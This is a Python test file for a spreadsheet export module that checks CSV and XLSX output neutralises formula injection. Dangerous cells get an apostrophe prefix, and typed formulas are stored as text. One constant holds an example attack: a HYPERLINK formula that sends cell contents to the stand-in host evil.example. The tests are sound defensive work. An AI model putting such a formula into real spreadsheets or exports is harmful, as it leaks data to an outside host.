"""Typed text never becomes a formula in an export (CSV / formula injection)."""

import io

from openpyxl import Workbook, load_workbook

from network_portal.ui.spreadsheets import csv_safe, workbook_text_only

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Отчёт")'


def test_csv_cells_that_excel_would_evaluate_get_an_apostrophe():
    row = [ATTACK, "+7 900", "-1", "@SUM(A1)", "\tx", "СОШ № 5", 12, None]
    assert csv_safe(row) == [
        "'" + ATTACK, "'+7 900", "'-1", "'@SUM(A1)", "'\tx", "СОШ № 5", 12, None,
    ]  # fmt: skip


def test_xlsx_keeps_typed_formulas_as_text():
    book = Workbook()
    book.active.append([ATTACK, "СОШ № 5", 3])
    assert book.active["A1"].data_type == "f"
    workbook_text_only(book)
    buffer = io.BytesIO()
    book.save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s" and cell.value == ATTACK
